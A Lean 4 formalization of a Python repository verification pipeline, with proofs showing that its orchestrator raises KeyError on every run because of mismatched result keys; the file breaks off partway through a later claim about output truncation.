import Mathlib

/-!
Shallow embedding of the sandboxed repository verification pipeline
(src/tools/fs_tools.py and src/tools/repo_tools.py) and proofs about it.

Python values that flow through the pipeline are modelled by an explicit
value type; Python dict literals become association lists; a dict lookup
that can raise KeyError is modelled as an Except computation.  External
process execution (subprocess.run) is modelled by an oracle outcome that
the operating system supplies; the code under verification is everything
the Python source does around that call.
-/

set_option linter.unusedVariables false

namespace PMGR

instance {α β : Type} [DecidableEq α] [DecidableEq β] : DecidableEq (Except α β) := fun x y =>
  match x, y with
  | .ok a, .ok b =>
      if h : a = b then isTrue (congrArg _ h) else isFalse (fun hh => h (Except.ok.inj hh))
  | .error a, .error b =>
      if h : a = b then isTrue (congrArg _ h) else isFalse (fun hh => h (Except.error.inj hh))
  | .ok _, .error _ => isFalse (fun hh => Except.noConfusion hh)
  | .error _, .ok _ => isFalse (fun hh => Except.noConfusion hh)

/-- A command as accepted by shell_run: either a single string (run with
shell interpretation in the source) or an argument vector. -/
inductive PyCmd where
  | str (s : String)
  | argv (args : List String)
deriving DecidableEq

/-- Outcome of one subprocess.run call, supplied by the operating system:
either the process completed with a return code and captured streams, or
one of the exceptions the source catches was raised. -/
inductive OsOutcome where
  | completed (returncode : Int) (stdout : String) (stderr : String)
  | fileNotFound (msg : String)
  | timeoutExpired (msg : String)
  | otherExc (ename : String) (emsg : String)
deriving DecidableEq

/-- Python values stored in the result dictionaries of this code base. -/
inductive PyVal where
  | vBool (b : Bool)
  | vInt (n : Int)
  | vStr (s : String)
  | vNone
  | vCmd (c : PyCmd)
  | vOptStr (o : Option String)
  | vStrList (l : List String)
deriving DecidableEq

/-- A Python dict with string keys, as an association list. -/
abbrev Dict := List (String × PyVal)

/-- Errors the Python code can raise; dictionary access with a missing
key raises KeyError, and adding a string to a non-string raises
TypeError. -/
inductive PyErr where
  | keyError (k : String)
  | typeError
deriving DecidableEq

/-- Dictionary access d[k]: the value when the key is present, KeyError
otherwise. -/
def dget (d : Dict) (k : String) : Except PyErr PyVal :=
  match d.find? (fun kv => kv.1 == k) with
  | some kv => .ok kv.2
  | none => .error (.keyError k)

/-- Python truthiness of a value, as used by the if-not tests. -/
def pyTruthy : PyVal → Bool
  | .vBool b => b
  | .vInt n => n != 0
  | .vStr s => s != ""
  | .vNone => false
  | .vCmd c => match c with | .str s => s != "" | .argv l => l != []
  | .vOptStr o => match o with | some s => s != "" | none => false
  | .vStrList l => l != []

/-- src/tools/fs_tools.py line 11: a cap on captured output declared in
the source.  The constant is never applied anywhere in the source. -/
def MAX_OUTPUT_CHARS : Nat := 12000

/-- src/tools/fs_tools.py line 77: use_shell = isinstance(cmd, str). -/
def use_shell : PyCmd → Bool
  | .str _ => true
  | .argv _ => false

/-- The hint string returned by shell_run on an executable-not-found
condition (src/tools/fs_tools.py line 105). -/
def notFoundHint : String :=
  "Executable not found on PATH. Agent likely called a unix tool (rg/grep/ls) or cmd was passed as a single string without shell."

/-- src/tools/fs_tools.py lines 70-120: shell_run.  Runs subprocess.run
with shell = use_shell and converts every caught exception into a
returned dictionary.  The subprocess outcome is the oracle argument. -/
def shell_run (cmd : PyCmd) (cwd : Option String) (timeout_s : Int)
    (outcome : OsOutcome) : Dict :=
  match outcome with
  | .completed rc out err =>
      [("ok", .vBool (rc == 0)),
       ("returncode", .vInt rc),
       ("stdout", .vStr out),
       ("stderr", .vStr err),
       ("cmd", .vCmd cmd),
       ("cwd", .vOptStr cwd),
       ("shell", .vBool (use_shell cmd))]
  | .fileNotFound m =>
      [("ok", .vBool false),
       ("error", .vStr ("FileNotFoundError: " ++ m)),
       ("cmd", .vCmd cmd),
       ("cwd", .vOptStr cwd),
       ("hint", .vStr notFoundHint)]
  | .timeoutExpired m =>
      [("ok", .vBool false),
       ("error", .vStr ("TimeoutExpired: " ++ m)),
       ("cmd", .vCmd cmd),
       ("cwd", .vOptStr cwd)]
  | .otherExc n m =>
      [("ok", .vBool false),
       ("error", .vStr (n ++ ": " ++ m)),
       ("cmd", .vCmd cmd),
       ("cwd", .vOptStr cwd)]

/-! Sandbox key resolver: src/tools/repo_tools.py lines 19-34,
_repo_key_from_url.  The regular expression
github\.com[/:]([^/]+)/([^/.]+)(?:\.git)?$ is modelled by an explicit
leftmost-match search: re.search tries each start position from the
left; at a given position the literal must match, then the greedy
one-or-more classes.  Group 1 ([^/]+) cannot cross a slash and must be
followed by a literal slash, so its only viable extent is the full run
up to the first slash.  Group 2 ([^/.]+) is greedy; if the maximal run
fails the optional .git and end-of-string tests, no shorter extent can
succeed, because the character after a shorter extent is a non-dot
run character.  Python's dollar also accepts a position before a final
newline, which the model keeps. -/

/-- Characters the character class [/:] accepts. -/
def isSepCh (c : Char) : Bool := c == '/' || c == ':'

/-- Python ASCII whitespace as stripped by str.strip (the model restricts
itself to the ASCII whitespace characters). -/
def isPySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- str.strip(): drop leading and trailing whitespace. -/
def pyStrip (s : String) : String :=
  ⟨((s.data.dropWhile isPySpace).reverse.dropWhile isPySpace).reverse⟩

/-- str.rstrip with the character SET of the argument string ".git":
drop trailing characters that are a dot, g, i or t. -/
def pyRstripDotGit (s : String) : String :=
  ⟨(s.data.reverse.dropWhile (fun c => c == '.' || c == 'g' || c == 'i' || c == 't')).reverse⟩

/-- End-of-pattern test for the dollar anchor: end of string, or just
before a final newline. -/
def matchDollar (l : List Char) : Bool := l == [] || l == ['\n']

/-- Match of ([^/.]+)(?:\.git)?$ against u: the greedy maximal run of
non-slash non-dot characters, then the optional literal .git, then the
dollar anchor.  Returns the group-2 capture. -/
def matchGroup2 (u : List Char) : Option (List Char) :=
  let b := u.takeWhile (fun c => !(c == '/' || c == '.'))
  let rest := u.drop b.length
  if b == [] then none
  else if rest.take 4 == ".git".data && matchDollar (rest.drop 4) then some b
  else if matchDollar rest then some b
  else none

/-- Match of ([^/]+)/([^/.]+)(?:\.git)?$ against t: group 1 is the run
up to the first slash, which must be non-empty and followed by a slash. -/
def matchAfterSep (t : List Char) : Option (List Char × List Char) :=
  let g1 := t.takeWhile (fun c => !(c == '/'))
  let rest := t.drop g1.length
  if g1 == [] then none
  else
    match rest with
    | [] => none
    | _ :: u => (matchGroup2 u).map (fun g2 => (g1, g2))

/-- Strip a literal prefix from a character list. -/
def stripLit : List Char → List Char → Option (List Char)
  | [], l => some l
  | _ :: _, [] => none
  | p :: ps, c :: cs => if p == c then stripLit ps cs else none

/-- One attempt of the whole pattern at the current position: the
literal github.com, one separator character, then the tail pattern. -/
def tryHere (l : List Char) : Option (List Char × List Char) :=
  match stripLit "github.com".data l with
  | some (d :: t) => if isSepCh d then matchAfterSep t else none
  | _ => none

/-- re.search: try every start position from the left, returning the
first position at which the pattern matches. -/
def searchGithub : List Char → Option (List Char × List Char)
  | [] => none
  | c :: cs =>
      match tryHere (c :: cs) with
      | some r => some r
      | none => searchGithub cs

/-- re.split on the single-character class [/:]: cut the list at every
separator character, keeping empty pieces. -/
def splitSepCh : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
      if isSepCh c then [] :: splitSepCh cs
      else
        match splitSepCh cs with
        | [] => [[c]]
        | g :: gs => (c :: g) :: gs

/-- src/tools/repo_tools.py lines 19-34: _repo_key_from_url.  On a regex
match, owner__repo from the two captures; otherwise the last two
[/:]-separated segments of the stripped URL with the ".git" character
set removed from its end; "unknown__repo" when fewer than two segments
exist. -/
def _repo_key_from_url (repo_url : String) : String :=
  match searchGithub (pyStrip repo_url).data with
  | some (owner, repo) => (⟨owner⟩ : String) ++ "__" ++ (⟨repo⟩ : String)
  | none =>
    match (splitSepCh (pyRstripDotGit (pyStrip repo_url)).data).reverse with
    | b :: a :: _ => (⟨a⟩ : String) ++ "__" ++ (⟨b⟩ : String)
    | _ => "unknown__repo"

/-- The character set the spec requires of a sandbox key (stated from
the spec's words, for comparison with the derived keys): alphanumerics,
dash and underscore only, and non-empty. -/
def sandboxKeySafe (s : String) : Bool :=
  s != "" && s.data.all (fun c => c.isAlphanum || c == '-' || c == '_')

/-! Filesystem model.  A path is its list of components relative to the
process working directory (the source uses os.path.abspath of relative
paths; the common absolute prefix is dropped).  A filesystem state is a
list of entries; a file lookup returns the first file entry at the
path, so overwriting a file is modelled by putting a fresh entry in
front.  Directory creation records every prefix of the created path. -/

abbrev FPath := List String

/-- One filesystem entry: a regular file with content, or a directory. -/
inductive FsEntry where
  | file (p : FPath) (c : String)
  | dir (p : FPath)
deriving DecidableEq

abbrev FS := List FsEntry

/-- The path of an entry. -/
def FsEntry.path : FsEntry → FPath
  | .file p _ => p
  | .dir p => p

/-- Content of the file at p, if one exists. -/
def fileAt (fs : FS) (p : FPath) : Option String :=
  fs.findSome? (fun e =>
    match e with
    | .file q c => if q = p then some c else none
    | .dir _ => none)

/-- os.path.isdir. -/
def isdir (fs : FS) (p : FPath) : Bool :=
  fs.any (fun e => match e with | .dir q => q == p | .file _ _ => false)

/-- os.path.isfile. -/
def isfile (fs : FS) (p : FPath) : Bool := (fileAt fs p).isSome

/-- os.path.exists: a file or a directory. -/
def pexists (fs : FS) (p : FPath) : Bool := isfile fs p || isdir fs p

/-- os.makedirs(p, exist_ok=True): create p and every ancestor
(src/tools/repo_tools.py lines 37-38, _ensure_dir). -/
def makedirs (fs : FS) (p : FPath) : FS :=
  (p.inits.map FsEntry.dir) ++ fs

/-- shutil.rmtree(p, ignore_errors=True): drop every entry at p or
below it. -/
def rmtree (fs : FS) (p : FPath) : FS :=
  fs.filter (fun e => !(p.isPrefixOf e.path))

/-- shutil.copy2 destination write: the file at p now has content c
(a fresh entry in front shadows any previous file at p). -/
def setFile (fs : FS) (p : FPath) (c : String) : FS := .file p c :: fs

/-- os.listdir: the entry names directly inside directory p. -/
def listdir (fs : FS) (p : FPath) : List String :=
  fs.filterMap (fun e =>
    match e.path with
    | q => if q.dropLast = p && q ≠ [] then q.getLast? else none)

/-- Render a component path the way os.path.join renders it. -/
def pathStr (p : FPath) : String := String.intercalate "/" p

/-- src/tools/repo_tools.py line 10: VERIFY_ROOT. -/
def VERIFY_ROOT : FPath := ["_verify"]

/-- src/tools/repo_tools.py line 11: SANDBOX_ROOT. -/
def SANDBOX_ROOT : FPath := ["_sandbox"]

/-- The files os.walk finds under overlay_dir, with their paths relative
to overlay_dir (src/tools/repo_tools.py lines 50-53). -/
def overlayFiles (fs : FS) (overlay_dir : FPath) : List (FPath × String) :=
  fs.filterMap (fun e =>
    match e with
    | .file q c => if overlay_dir.isPrefixOf q then some (q.drop overlay_dir.length, c) else none
    | .dir _ => none)

/-- The body of the _copy_overlay loop for one walked file: create the
destination parent directories, copy the file to repo_dir/rel
(overwriting), and increment the count. -/
def copyStep (repo_dir : FPath) (st : FS × Nat) (pc : FPath × String) : FS × Nat :=
  (setFile (makedirs st.1 (repo_dir ++ pc.1).dropLast) (repo_dir ++ pc.1) pc.2, st.2 + 1)

/-- src/tools/repo_tools.py lines 41-58: _copy_overlay.  Nothing happens
when overlay_dir is not a directory; otherwise every walked file is
copied to the same relative path under repo_dir (creating intermediate
directories, overwriting) and counted. -/
def _copy_overlay (fs : FS) (overlay_dir repo_dir : FPath) : FS × Nat :=
  if !(isdir fs overlay_dir) then (fs, 0)
  else (overlayFiles fs overlay_dir).foldl (copyStep repo_dir) (fs, 0)

/-- src/tools/repo_tools.py lines 61-75: _detect_project_type. -/
def _detect_project_type (fs : FS) (repo_dir : FPath) : String :=
  let ex := fun n => pexists fs (repo_dir ++ [n])
  if ex "Gemfile" || (ex "_config.yml" && (ex ".ruby-version" || ex "Gemfile.lock")) then
    "jekyll"
  else if ex "requirements.txt" || ex "pyproject.toml" || ex "setup.py" || ex "setup.cfg" then
    "python"
  else "unknown"

/-- src/tools/repo_tools.py lines 78-90: _venv_python, the first of the
three candidate interpreter paths inside .venv that exists. -/
def _venv_python (fs : FS) (repo_dir : FPath) : Option FPath :=
  [repo_dir ++ [".venv", "bin", "python"],
   repo_dir ++ [".venv", "Scripts", "python.exe"],
   repo_dir ++ [".venv", "Scripts", "python"]].find? (fun p => pexists fs p)

/-- src/tools/repo_tools.py line 190: vpy = _venv_python(repo_dir) or
"python".  The ambient interpreter name is the fallback. -/
def vpyOf (fs : FS) (repo_dir : FPath) : String :=
  ((_venv_python fs repo_dir).map pathStr).getD "python"

/-- src/tools/repo_tools.py line 193: the pip tooling upgrade command. -/
def pipUpgradeCmd (vpy : String) : List String :=
  [vpy, "-m", "pip", "install", "-U", "pip", "wheel", "setuptools"]

/-- src/tools/repo_tools.py line 200: the requirements install command. -/
def pipInstallReqCmd (vpy : String) : List String :=
  [vpy, "-m", "pip", "install", "-r", "requirements.txt"]

/-- src/tools/repo_tools.py line 205: the editable install command. -/
def pipInstallEditableCmd (vpy : String) : List String :=
  [vpy, "-m", "pip", "install", "-e", "."]

/-- src/tools/repo_tools.py line 213: the byte-compile smoke command. -/
def compileallCmd (vpy : String) : List String :=
  [vpy, "-m", "compileall", "-q", "."]

/-- src/tools/repo_tools.py line 220: the test command. -/
def pytestCmd (vpy : String) : List String :=
  [vpy, "-m", "pytest", "-q"]

/-- str.startswith, over the character lists of the strings. -/
def pyStartsWith (s pre : String) : Bool := pre.data.isPrefixOf s.data

/-- str.endswith, over the character lists of the strings. -/
def pyEndsWith (s suf : String) : Bool := suf.data.reverse.isPrefixOf s.data.reverse

/-- src/tools/repo_tools.py lines 93-100: _has_tests, a tests directory
or a root-level test_*.py file. -/
def _has_tests (fs : FS) (repo_dir : FPath) : Bool :=
  isdir fs (repo_dir ++ ["tests"]) ||
    (listdir fs repo_dir).any (fun fn => pyStartsWith fn "test_" && pyEndsWith fn ".py")

/-! The verification orchestrator: src/tools/repo_tools.py lines
103-268, verify_repo.  Its execution is modelled in a monad threading
the filesystem state with a raised-exception channel; external
processes are an oracle function from the issued argument vector, the
working directory and the filesystem at call time to the process
outcome and the filesystem the process leaves behind. -/

/-- The execution monad: filesystem state plus uncaught Python
exceptions.  The state at the point of a raise is kept, so filesystem
effects already performed stay observable. -/
def PyM (α : Type) : Type := FS → Except PyErr α × FS

/-- Return of the execution monad. -/
def purePyM {α : Type} (a : α) : PyM α := fun s => (.ok a, s)

/-- Sequencing in the execution monad: a raised exception short-circuits
and keeps the state at the raise. -/
def bindPyM {α β : Type} (m : PyM α) (f : α → PyM β) : PyM β := fun s =>
  match m s with
  | (.ok a, s') => f a s'
  | (.error e, s') => (.error e, s')

instance : Monad PyM where
  pure := purePyM
  bind := bindPyM

/-- Read the current filesystem. -/
def getFs : PyM FS := fun s => (.ok s, s)

/-- Replace the current filesystem. -/
def setFs (s : FS) : PyM Unit := fun _ => (.ok (), s)

/-- Apply a pure mutation to the filesystem. -/
def modifyFs (f : FS → FS) : PyM Unit := fun s => (.ok (), f s)

/-- Lift a possibly-raising pure computation. -/
def liftE {α : Type} (e : Except PyErr α) : PyM α := fun s => (e, s)

/-- The oracle for one external process: argument vector, working
directory and filesystem at call time determine the outcome and the
filesystem the process leaves behind. -/
abbrev ShellEnv := List String → FPath → FS → OsOutcome × FS

/-- One shell_run call as issued by verify_repo: the process runs under
the oracle, and the Python-level result dictionary is built by
shell_run. -/
def runShell (env : ShellEnv) (args : List String) (cwd : FPath) (timeout_s : Int) :
    PyM Dict := fun s =>
  (.ok (shell_run (.argv args) (some (pathStr cwd)) timeout_s (env args cwd s).1),
   (env args cwd s).2)

/-- Python string addition: defined on two strings, TypeError otherwise. -/
def pyAdd (a b : PyVal) : Except PyErr PyVal :=
  match a, b with
  | .vStr x, .vStr y => .ok (.vStr (x ++ y))
  | _, _ => .error .typeError

/-- The report dictionary verify_repo returns.  Success reports carry no
tail fields; failure reports carry both. -/
structure Report where
  ok : Bool
  key : String
  repo_dir : String
  steps : List Dict
  stderr_tail : Option PyVal
  stdout_tail : Option PyVal
deriving DecidableEq

/-- The failure report literal used at every fail-fast return site of
verify_repo: ok false plus the stderr and stdout of the failing result
dictionary (both accesses can raise KeyError). -/
def failReport (key : String) (repo_dir : FPath) (steps : List Dict) (r : Dict) :
    Except PyErr Report := do
  let se ← dget r "stderr"
  let so ← dget r "stdout"
  pure ⟨false, key, pathStr repo_dir, steps, some se, some so⟩

/-- The success report literal of verify_repo. -/
def okReport (key : String) (repo_dir : FPath) (steps : List Dict) : Report :=
  ⟨true, key, pathStr repo_dir, steps, none, none⟩

/-- Split a relative path string at slashes, for the os.path.join calls
that receive a slash-joined relative string. -/
def splitSlash (s : String) : List String :=
  (splitSepCh s.data).map (fun l => (⟨l⟩ : String))

/-- src/tools/repo_tools.py lines 103-268: verify_repo, transliterated
line by line.  Every shell result r is consulted as r with the literal
keys of the source; in particular every step record reads
r with key exit_code. -/
def verify_repo (env : ShellEnv) (repo_url : String) (ref : String)
    (sandbox_key : Option String)
    (timeout_clone_s timeout_install_s timeout_test_s timeout_build_s : Int) :
    PyM Report := do
  let key := sandbox_key.getD (_repo_key_from_url repo_url)
  let run_dir := VERIFY_ROOT ++ [key]
  let repo_dir := run_dir ++ ["repo"]
  let sandbox_dir := SANDBOX_ROOT ++ [key]
  let overlay_dir := sandbox_dir ++ ["overlay"]
  let patch_path := sandbox_dir ++ ["patch.diff"]
  modifyFs (fun fs => makedirs fs VERIFY_ROOT)
  modifyFs (fun fs => makedirs fs SANDBOX_ROOT)
  modifyFs (fun fs => makedirs fs run_dir)
  let mut steps : List Dict := []
  -- 1) clone or fetch
  let fs0 ← getFs
  if !(isdir fs0 (repo_dir ++ [".git"])) then
    -- fresh clone
    if isdir fs0 repo_dir then
      modifyFs (fun fs => rmtree fs repo_dir)
    let r ← runShell env ["git", "clone", repo_url, "repo"] run_dir timeout_clone_s
    let ec ← liftE (dget r "exit_code")
    steps := steps ++ [[("name", .vStr "clone"), ("exit", ec)]]
    let okv ← liftE (dget r "ok")
    if !(pyTruthy okv) then
      return (← liftE (failReport key repo_dir steps r))
  else
    -- update
    let r1 ← runShell env ["git", "fetch", "--all", "--prune"] repo_dir timeout_clone_s
    let ec ← liftE (dget r1 "exit_code")
    steps := steps ++ [[("name", .vStr "fetch"), ("exit", ec)]]
    let okv ← liftE (dget r1 "ok")
    if !(pyTruthy okv) then
      return (← liftE (failReport key repo_dir steps r1))
  -- checkout ref
  let rco ← runShell env ["git", "checkout", ref] repo_dir timeout_clone_s
  let ecco ← liftE (dget rco "exit_code")
  steps := steps ++ [[("name", .vStr "checkout"), ("exit", ecco), ("ref", .vStr ref)]]
  let okco ← liftE (dget rco "ok")
  if !(pyTruthy okco) then
    -- try origin/ref fallback
    let r2 ← runShell env ["git", "checkout", "origin/" ++ ref] repo_dir timeout_clone_s
    let ec2 ← liftE (dget r2 "exit_code")
    steps := steps ++
      [[("name", .vStr "checkout_origin"), ("exit", ec2), ("ref", .vStr ("origin/" ++ ref))]]
    let ok2 ← liftE (dget r2 "ok")
    if !(pyTruthy ok2) then
      let a1 ← liftE (dget rco "stderr")
      let a2 ← liftE (pyAdd a1 (.vStr "\n"))
      let a3 ← liftE (dget r2 "stderr")
      let se ← liftE (pyAdd a2 a3)
      let b1 ← liftE (dget rco "stdout")
      let b2 ← liftE (pyAdd b1 (.vStr "\n"))
      let b3 ← liftE (dget r2 "stdout")
      let so ← liftE (pyAdd b2 b3)
      return ⟨false, key, pathStr repo_dir, steps, some se, some so⟩
  -- hard reset to avoid local drift
  let rrs ← runShell env ["git", "reset", "--hard"] repo_dir timeout_clone_s
  let ecrs ← liftE (dget rrs "exit_code")
  steps := steps ++ [[("name", .vStr "reset_hard"), ("exit", ecrs)]]
  let okrs ← liftE (dget rrs "ok")
  if !(pyTruthy okrs) then
    return (← liftE (failReport key repo_dir steps rrs))
  -- 2) apply sandbox overlay + patch
  let fsov ← getFs
  let ovres := _copy_overlay fsov overlay_dir repo_dir
  setFs ovres.1
  steps := steps ++
    [[("name", .vStr "overlay_copy"), ("exit", .vInt 0),
      ("copied_files", .vInt (Int.ofNat ovres.2))]]
  let fspt ← getFs
  if isfile fspt patch_path then
    let rap ← runShell env ["git", "apply", "--whitespace=nowarn", pathStr patch_path]
      repo_dir 60
    let ecap ← liftE (dget rap "exit_code")
    steps := steps ++ [[("name", .vStr "git_apply_patch"), ("exit", ecap)]]
    let okap ← liftE (dget rap "ok")
    if !(pyTruthy okap) then
      return (← liftE (failReport key repo_dir steps rap))
  -- 3) detect type and run minimal plan
  let fsdt ← getFs
  let ptype := _detect_project_type fsdt repo_dir
  steps := steps ++ [[("name", .vStr "detect_type"), ("exit", .vInt 0), ("type", .vStr ptype)]]
  if ptype == "python" then
    -- create venv
    let rv ← runShell env ["python", "-m", "venv", ".venv"] repo_dir 120
    let ecv ← liftE (dget rv "exit_code")
    steps := steps ++ [[("name", .vStr "venv_create"), ("exit", ecv)]]
    let okvv ← liftE (dget rv "ok")
    if !(pyTruthy okvv) then
      return (← liftE (failReport key repo_dir steps rv))
    let fsvp ← getFs
    let vpy := vpyOf fsvp repo_dir
    -- upgrade pip tooling
    let rpu ← runShell env (pipUpgradeCmd vpy) repo_dir timeout_install_s
    let ecpu ← liftE (dget rpu "exit_code")
    steps := steps ++ [[("name", .vStr "pip_upgrade"), ("exit", ecpu)]]
    let okpu ← liftE (dget rpu "ok")
    if !(pyTruthy okpu) then
      return (← liftE (failReport key repo_dir steps rpu))
    -- install deps (minimal)
    let fsin ← getFs
    if isfile fsin (repo_dir ++ ["requirements.txt"]) then
      let rir ← runShell env (pipInstallReqCmd vpy) repo_dir timeout_install_s
      let ecir ← liftE (dget rir "exit_code")
      steps := steps ++ [[("name", .vStr "pip_install_requirements"), ("exit", ecir)]]
      let okir ← liftE (dget rir "ok")
      if !(pyTruthy okir) then
        return (← liftE (failReport key repo_dir steps rir))
    else if isfile fsin (repo_dir ++ ["pyproject.toml"]) ||
        isfile fsin (repo_dir ++ ["setup.py"]) || isfile fsin (repo_dir ++ ["setup.cfg"]) then
      let rie ← runShell env (pipInstallEditableCmd vpy) repo_dir timeout_install_s
      let ecie ← liftE (dget rie "exit_code")
      steps := steps ++ [[("name", .vStr "pip_install_editable"), ("exit", ecie)]]
      let okie ← liftE (dget rie "ok")
      if !(pyTruthy okie) then
        return (← liftE (failReport key repo_dir steps rie))
    else
      steps := steps ++ [[("name", .vStr "pip_install_skip"), ("exit", .vInt 0)]]
    -- smoke: compileall (always safe)
    let rca ← runShell env (compileallCmd vpy) repo_dir timeout_test_s
    let ecca ← liftE (dget rca "exit_code")
    steps := steps ++ [[("name", .vStr "compileall"), ("exit", ecca)]]
    let okca ← liftE (dget rca "ok")
    if !(pyTruthy okca) then
      return (← liftE (failReport key repo_dir steps rca))
    -- tests if present
    let fsht ← getFs
    if _has_tests fsht repo_dir then
      let rpt ← runShell env (pytestCmd vpy) repo_dir timeout_test_s
      let ecpt ← liftE (dget rpt "exit_code")
      steps := steps ++ [[("name", .vStr "pytest"), ("exit", ecpt)]]
      let okpt ← liftE (dget rpt "ok")
      if !(pyTruthy okpt) then
        return (← liftE (failReport key repo_dir steps rpt))
    else
      steps := steps ++ [[("name", .vStr "pytest_skip_no_tests"), ("exit", .vInt 0)]]
    return okReport key repo_dir steps
  if ptype == "jekyll" then
    -- install gems + build site
    let rbi ← runShell env ["bundle", "install"] repo_dir timeout_install_s
    let ecbi ← liftE (dget rbi "exit_code")
    steps := steps ++ [[("name", .vStr "bundle_install"), ("exit", ecbi)]]
    let okbi ← liftE (dget rbi "ok")
    if !(pyTruthy okbi) then
      return (← liftE (failReport key repo_dir steps rbi))
    let rjb ← runShell env ["bundle", "exec", "jekyll", "build"] repo_dir timeout_build_s
    let ecjb ← liftE (dget rjb "exit_code")
    steps := steps ++ [[("name", .vStr "jekyll_build"), ("exit", ecjb)]]
    let okjb ← liftE (dget rjb "ok")
    if !(pyTruthy okjb) then
      return (← liftE (failReport key repo_dir steps rjb))
    -- minimal output asserts
    let fsas ← getFs
    let expected := ["_site/index.html", "_site/assets/main.css"]
    let missing := expected.filter (fun rel => !(pexists fsas (repo_dir ++ splitSlash rel)))
    steps := steps ++
      [[("name", .vStr "assert_outputs"),
        ("exit", .vInt (if missing == [] then 0 else 1)),
        ("missing", .vStrList missing)]]
    if missing ≠ [] then
      return ⟨false, key, pathStr repo_dir, steps,
        some (.vStr ("Missing built outputs: " ++ String.intercalate ", " missing)),
        some (.vStr "")⟩
    return okReport key repo_dir steps
  -- unknown: do only a git status + compileall if python present
  let rgs ← runShell env ["git", "status", "--porcelain"] repo_dir 30
  let ecgs ← liftE (dget rgs "exit_code")
  steps := steps ++ [[("name", .vStr "git_status"), ("exit", ecgs)]]
  -- If python files exist, try compileall without deps (best-effort)
  let fsbe ← getFs
  let any_py := (listdir fsbe repo_dir).any (fun fn => pyEndsWith fn ".py")
  if any_py then
    let rbe ← runShell env ["python", "-m", "compileall", "-q", "."] repo_dir timeout_test_s
    let ecbe ← liftE (dget rbe "exit_code")
    steps := steps ++ [[("name", .vStr "compileall_best_effort"), ("exit", ecbe)]]
    let okbe ← liftE (dget rbe "ok")
    if !(pyTruthy okbe) then
      return (← liftE (failReport key repo_dir steps rbe))
  return okReport key repo_dir steps

/-- An oracle under which every external process succeeds silently and
leaves the filesystem unchanged. -/
def idEnv : ShellEnv := fun _ _ fs => (.completed 0 "" "", fs)

/-- An oracle under which git clone fails with exit status 128 and every
other process succeeds; no process touches the filesystem. -/
def cloneFailEnv : ShellEnv := fun args _ fs =>
  if args.take 2 == ["git", "clone"] then (.completed 128 "" "fatal: repository not found", fs)
  else (.completed 0 "" "", fs)

/-- A captured stream one character longer than the declared cap, used
to examine truncation behaviour. -/
def bigOut : String := ⟨List.replicate 12001 'a'⟩

/-! Helper lemmas about the filesystem model and the overlay fold. -/

lemma fileAt_setFile (fs : FS) (p : FPath) (c : String) (q : FPath) :
    fileAt (setFile fs p c) q = if p = q then some c else fileAt fs q := by
  by_cases h : p = q <;> simp [setFile, fileAt, List.findSome?_cons, h]

lemma fileAt_dirs_append (ds : List FPath) (fs : FS) (q : FPath) :
    fileAt (ds.map FsEntry.dir ++ fs) q = fileAt fs q := by
  induction ds with
  | nil => rfl
  | cons a t ih => simpa [fileAt, List.findSome?_cons] using ih

lemma fileAt_makedirs (fs : FS) (d : FPath) (q : FPath) :
    fileAt (makedirs fs d) q = fileAt fs q := fileAt_dirs_append _ _ _

lemma append_cancel_left' {α : Type} (a b c : List α) (h : a ++ b = a ++ c) : b = c := by
  induction a with
  | nil => exact h
  | cons x t ih => exact ih (List.cons.inj h).2

lemma copy_foldl_count (rd : FPath) (l : List (FPath × String)) (st : FS × Nat) :
    (l.foldl (copyStep rd) st).2 = st.2 + l.length := by
  induction l generalizing st with
  | nil => simp
  | cons a t ih => simp [List.foldl, ih, copyStep]; omega

lemma copy_foldl_frame (rd : FPath) (l : List (FPath × String)) (st : FS × Nat) (p : FPath)
    (h : ∀ pc ∈ l, rd ++ pc.1 ≠ p) :
    fileAt (l.foldl (copyStep rd) st).1 p = fileAt st.1 p := by
  induction l generalizing st with
  | nil => rfl
  | cons a t ih =>
      have ha : rd ++ a.1 ≠ p := h a (List.mem_cons_self a t)
      have ht : ∀ pc ∈ t, rd ++ pc.1 ≠ p := fun pc hm => h pc (List.mem_cons_of_mem a hm)
      simp only [List.foldl]
      rw [ih _ ht]
      simp [copyStep, fileAt_setFile, fileAt_makedirs, ha]

lemma copy_foldl_writes (rd : FPath) (l : List (FPath × String)) (st : FS × Nat)
    (hnd : (l.map Prod.fst).Nodup) :
    ∀ pc ∈ l, fileAt (l.foldl (copyStep rd) st).1 (rd ++ pc.1) = some pc.2 := by
  induction l generalizing st with
  | nil => intro pc hm; cases hm
  | cons a t ih =>
      intro pc hm
      rw [List.map_cons] at hnd
      have hnd2 := List.nodup_cons.mp hnd
      rcases List.mem_cons.mp hm with rfl | hm'
      · have hne : ∀ qc ∈ t, rd ++ qc.1 ≠ rd ++ pc.1 := by
          intro qc hq hcontra
          exact hnd2.1 (by
            have hq1 : qc.1 = pc.1 := append_cancel_left' rd _ _ hcontra
            exact hq1 ▸ List.mem_map_of_mem Prod.fst hq)
        simp only [List.foldl]
        rw [copy_foldl_frame rd t _ _ hne]
        simp [copyStep, fileAt_setFile, fileAt_makedirs]
      · exact ih _ hnd2.2 pc hm'

lemma isPrefixOf_self_append {α : Type} [BEq α] [LawfulBEq α] (l m : List α) :
    l.isPrefixOf (l ++ m) = true := by
  induction l with
  | nil => cases m <;> rfl
  | cons a t ih =>
      show (a == a && List.isPrefixOf t (t ++ m)) = true
      simp [ih]

/-! Claim theorems. -/

/-- C1: the claim says no exception ever escapes verify_repo and every
failure becomes a returned report with ok false.  The code violates
this: every shell result stores the exit status under the key
returncode, while every step record in verify_repo reads the key
exit_code, so every invocation raises KeyError right after the first
external command, whatever the command outcome — shown here for a fresh
clone, for the fetch path of an existing working copy, for a timeout
and for an executable-not-found outcome. -/
theorem verify_repo_raises_keyerror_every_run :
    ((verify_repo idEnv "https://github.com/o/r" "main" none 180 300 300 300 []).1
      = .error (.keyError "exit_code"))
    ∧ ((verify_repo idEnv "https://github.com/o/r" "main" none 180 300 300 300
        [FsEntry.dir ["_verify", "o__r", "repo", ".git"]]).1
      = .error (.keyError "exit_code"))
    ∧ ((verify_repo (fun _ _ fs => (.timeoutExpired "timed out", fs))
        "https://github.com/o/r" "main" none 180 300 300 300 []).1
      = .error (.keyError "exit_code"))
    ∧ ((verify_repo (fun _ _ fs => (.fileNotFound "git", fs))
        "https://github.com/o/r" "main" none 180 300 300 300 []).1
      = .error (.keyError "exit_code")) := by
  exact ⟨rfl, rfl, rfl, rfl⟩

/-- C2 counterexample: the claim says captured output is truncated to a
fixed cap, keeping the tail behind a truncated-marker.  A completed
